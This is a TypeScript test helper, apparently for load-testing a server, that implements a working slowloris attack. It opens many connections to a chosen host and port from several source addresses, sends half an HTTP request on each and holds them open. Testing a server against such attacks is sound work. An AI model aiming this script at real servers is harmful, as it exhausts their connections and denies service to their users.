/**
 * A slowloris for tests, run as its own process (its own file-descriptor limit): opens `count`
 * connections to host:port, spread over the given local source addresses, sends half a request
 * and holds each one open. Prints one JSON line of counts every 250 ms and when every connection
 * was tried: `{"tried","connected","closed","open","failed","done"}`. Stops when stdin closes.
 *
 *   node slow-attack.ts HOST PORT COUNT SRC1,SRC2,...
 */
import net from 'node:net';

const [host = '127.0.0.1', portText = '0', countText = '0', sourcesText = '127.0.0.1'] = process.argv.slice(2);
const port = Number(portText);
const count = Number(countText);
const sources = sourcesText.split(',');
const IN_FLIGHT = 400;

const stats = { tried: 0, connected: 0, closed: 0, open: 0, failed: 0, done: false };
const sockets: net.Socket[] = [];
let pending = 0;

function report(): void {
  process.stdout.write(`${JSON.stringify(stats)}\n`);
}

function next(): void {
  while (pending < IN_FLIGHT && stats.tried < count) {
    const i = stats.tried++;
    pending++;
    const socket = net.connect({ host, port, localAddress: sources[i % sources.length] });
    sockets.push(socket);
    let connected = false;
    let settled = false;
    const settle = () => {
      if (settled) return;
      settled = true;
      pending--;
      next();
    };
    socket.once('connect', () => {
      connected = true;
      stats.connected++;
      stats.open++;
      // Half a request, never finished.
      socket.write(`GET /slow-${i} HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `);
      settle();
    });
    socket.on('data', () => {}); // read what the server says, so its FIN is seen
    socket.on('error', () => {});
    socket.once('close', () => {
      if (connected) {
        stats.closed++;
        stats.open--;
      } else {
        stats.failed++;
      }
      settle();
    });
  }
  if (stats.tried >= count && pending === 0 && !stats.done) {
    stats.done = true;
    report();
  }
}

const timer = setInterval(report, 250);
process.stdin.on('close', () => {
  clearInterval(timer);
  for (const s of sockets) s.destroy();
  process.exit(0);
});
process.stdin.resume();
next();
